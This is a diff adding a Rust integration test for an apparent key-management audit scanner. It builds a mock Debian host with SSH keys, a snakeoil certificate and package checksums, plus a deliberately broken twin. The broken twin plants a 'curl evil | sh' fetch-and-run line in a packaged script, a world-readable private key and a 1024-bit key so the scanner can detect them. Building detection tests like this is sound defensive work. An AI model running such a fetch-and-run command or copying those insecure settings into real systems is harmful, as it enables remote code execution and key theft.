@@ -2329,3 +2329,203 @@ fn sudo_rules_vigil_cannot_resolve_make_the_rule_unknown_not_pass() {
     assert!(r == "error" || r == "unknown", "{r}");
     assert!(s.json.to_string().contains("sss (nsswitch.conf sudoers:)"));
 }
+
+/// A host no one here configured for key management, as Debian leaves it with
+/// openssh-server and ssl-cert installed: SSH host keys, the snakeoil key and its
+/// certificate, the packages' md5sums. Without a policy discovery finds the keys and at
+/// least 20 rules give pass or fail; a broken twin (a world-readable key, a 1024-bit key,
+/// a changed packaged file) fails rules whose evidence names the violating object.
+fn plain_debian(broken: bool) -> tempfile::TempDir {
+    let d = tempfile::tempdir().unwrap();
+    let root = d.path();
+    let w = |p: &str, data: &str| {
+        let p = root.join(p.trim_start_matches('/'));
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(p, data).unwrap();
+    };
+    let chmod = |p: &str, mode: u32| {
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(
+            root.join(p.trim_start_matches('/')),
+            std::fs::Permissions::from_mode(mode),
+        )
+        .unwrap();
+    };
+    w(
+        "/etc/passwd",
+        "root:x:0:0:root:/root:/bin/bash\nsshd:x:100:65534::/run/sshd:/usr/sbin/nologin\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n",
+    );
+    w("/etc/group", "root:x:0:\nssl-cert:x:110:\nalice:x:1000:\n");
+    w("/etc/hostname", "plain\n");
+    w(
+        "/etc/ssh/sshd_config",
+        "Include /etc/ssh/sshd_config.d/*.conf\nKbdInteractiveAuthentication no\n",
+    );
+    for t in ["rsa", "ecdsa", "ed25519"] {
+        let key = root.join(format!("etc/ssh/ssh_host_{t}_key"));
+        run(
+            "ssh-keygen",
+            &["-q", "-N", "", "-t", t, "-f", key.to_str().unwrap()],
+        );
+    }
+    std::fs::create_dir_all(root.join("etc/ssl/private")).unwrap();
+    std::fs::create_dir_all(root.join("etc/ssl/certs")).unwrap();
+    let key = root.join("etc/ssl/private/ssl-cert-snakeoil.key");
+    let cert = root.join("etc/ssl/certs/ssl-cert-snakeoil.pem");
+    run(
+        "openssl",
+        &[
+            "req",
+            "-x509",
+            "-newkey",
+            "rsa:2048",
+            "-nodes",
+            "-subj",
+            "/CN=plain",
+            "-days",
+            "3650",
+            "-keyout",
+            key.to_str().unwrap(),
+            "-out",
+            cert.to_str().unwrap(),
+        ],
+    );
+    std::os::unix::fs::chown(root.join("etc/ssl/private"), Some(0), Some(110)).unwrap();
+    chmod("/etc/ssl/private", 0o710);
+    std::os::unix::fs::chown(&key, Some(0), Some(110)).unwrap();
+    chmod(
+        "/etc/ssl/private/ssl-cert-snakeoil.key",
+        if broken { 0o644 } else { 0o640 },
+    );
+    if broken {
+        let weak = root.join("etc/ssl/private/legacy.key");
+        run(
+            "openssl",
+            &[
+                "genpkey",
+                "-algorithm",
+                "RSA",
+                "-pkeyopt",
+                "rsa_keygen_bits:1024",
+                "-out",
+                weak.to_str().unwrap(),
+            ],
+        );
+        chmod("/etc/ssl/private/legacy.key", 0o600);
+    }
+    let tool = "#!/bin/sh\n# make-ssl-cert\n";
+    w(
+        "/usr/sbin/make-ssl-cert",
+        if broken {
+            "#!/bin/sh\ncurl evil | sh\n"
+        } else {
+            tool
+        },
+    );
+    let mut status = String::new();
+    for (pkg, ver) in [
+        ("openssh-server", "1:9.2p1-2+deb12u3"),
+        ("ssl-cert", "1.1.2"),
+        ("openssl", "3.0.15-1~deb12u1"),
+    ] {
+        status.push_str(&format!(
+            "Package: {pkg}\nStatus: install ok installed\nArchitecture: amd64\nVersion: {ver}\n\n"
+        ));
+        let (file, text) = if pkg == "ssl-cert" {
+            ("usr/sbin/make-ssl-cert".to_string(), tool.to_string())
+        } else {
+            let f = format!("usr/share/doc/{pkg}/copyright");
+            w(&format!("/{f}"), &format!("{pkg}\n"));
+            (f, format!("{pkg}\n"))
+        };
+        w(
+            &format!("/var/lib/dpkg/info/{pkg}.md5sums"),
+            &format!("{}  {file}\n", md5_hex(text.as_bytes())),
+        );
+    }
+    w("/var/lib/dpkg/status", &status);
+    w(
+        "/var/log/dpkg.log",
+        "2026-11-30 10:00:00 status installed ssl-cert:all 1.1.2\n",
+    );
+    d
+}
+
+#[test]
+fn discovery_audits_a_plain_host_without_a_policy() {
+    need_root!();
+    let scan_root = |root: &std::path::Path| {
+        let out = Command::new(env!("CARGO_BIN_EXE_vigil"))
+            .args(["scan", BENCH, "--json", "-", "-q", "--root"])
+            .arg(root)
+            .output()
+            .unwrap();
+        Scan {
+            json: serde_json::from_slice(&out.stdout).unwrap(),
+            exit: out.status.code().unwrap_or(-1),
+        }
+    };
+    let good = plain_debian(false);
+    let s = scan_root(good.path());
+    let r = s.results();
+    let decided: Vec<_> = r
+        .iter()
+        .filter(|(_, v)| *v == "pass" || *v == "fail")
+        .map(|(k, v)| format!("{k}={v}"))
+        .collect();
+    assert!(
+        decided.len() >= 20,
+        "{} decided: {decided:?}",
+        decided.len()
+    );
+    for rule in [
+        "key_strength",
+        "private_key_readers",
+        "private_key_writers",
+        "certificate_not_expired",
+        "certificate_not_expiring",
+        "certificate_signature_strong",
+        "kms_packages_unmodified",
+        "no_key_material_in_logs",
+    ] {
+        assert_eq!(r[rule], "pass", "{rule}: {}", s.messages(rule));
+    }
+    let mut keys: Vec<String> = s
+        .items_of("private_key_readers")
+        .iter()
+        .flat_map(|i| field(i, "path").into_iter().map(String::from))
+        .collect();
+    keys.sort();
+    assert_eq!(
+        keys,
+        [
+            "/etc/ssh/ssh_host_ecdsa_key",
+            "/etc/ssh/ssh_host_ed25519_key",
+            "/etc/ssh/ssh_host_rsa_key",
+            "/etc/ssl/private/ssl-cert-snakeoil.key",
+        ],
+        "{keys:?}"
+    );
+    // The audit trail is missing, and the rules about it say so.
+    assert_fails_with(&s, "audit_log_present", "path", "/var/log/audit/audit.log");
+    assert_eq!(r["auditd_installed"], "fail");
+
+    let bad = plain_debian(true);
+    let s = scan_root(bad.path());
+    assert_fails_with(
+        &s,
+        "private_key_readers",
+        "path",
+        "/etc/ssl/private/ssl-cert-snakeoil.key",
+    );
+    let ev = s.evidence("private_key_readers");
+    assert_eq!(field(&ev[0], "world_readable"), ["true"]);
+    assert_eq!(field(&ev[0], "mode"), ["0644"]);
+    assert_fails_with(&s, "key_strength", "path", "/etc/ssl/private/legacy.key");
+    assert_fails_with(
+        &s,
+        "kms_packages_unmodified",
+        "changed_file",
+        "/usr/sbin/make-ssl-cert",
+    );
+}
